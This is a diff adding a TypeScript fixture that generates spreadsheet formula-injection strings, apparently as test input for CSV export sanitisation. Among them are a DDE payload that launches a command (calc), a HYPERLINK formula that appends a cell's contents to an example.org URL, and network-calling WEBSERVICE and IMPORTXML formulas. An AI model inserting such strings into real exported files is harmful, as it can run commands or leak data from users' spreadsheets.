@@ -1,0 +1,40 @@
+/** Signs with which a formula begins in some program, and what programs skip before them. */
+const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const BEFORE = ['', ' ', '\t', '\u00a0', "'"];
+const FORMULAS = [
+  '1+1',
+  'SUM(1,2)',
+  'A1',
+  'HYPERLINK("https://example.org/?"&A1,"Open")',
+  'WEBSERVICE("https://example.org")',
+  'IMPORTXML("https://example.org","//a")',
+  "cmd|' /C calc'!A0",
+  'DDE("soffice","a","b")',
+  '1/0',
+  'NOSUCHFUNCTION(1)',
+  '=1+1',
+  '+1+1',
+  '-1',
+  '@SUM(1)',
+  '"1"&"2"',
+  'INDIRECT("A"&1)',
+  '1;=1+1',
+  '{1,2}',
+  '2025-03-01',
+];
+/** What ends a cell, or a line, where another separator is expected or a quote is not understood. */
+const ENDS_CELL = [';', ',', '|', '\t', '\n', '\r\n', '";', '","', ';"', ';""', '\n"', "';'"];
+/** Every sign before every formula, with what may stand before the sign. */
+const AT_THE_START = BEFORE.flatMap((before) =>
+  SIGNS.flatMap((sign) => FORMULAS.map((formula) => before + sign + formula)),
+).slice(0, 1000);
+const IN_THE_MIDDLE = BEFORE.flatMap((before) =>
+  ENDS_CELL.flatMap((end) =>
+    ['=', '＝', '@'].flatMap((sign) =>
+      FORMULAS.map((formula) => `Ada${end}${before}${sign}${formula}${end}`),
+    ),
+  ),
+);
+
+/** Texts that would be a formula in some spreadsheet if they were written into a CSV file as they are. */
+export const HOSTILE_CELLS: readonly string[] = [...AT_THE_START, ...IN_THE_MIDDLE];
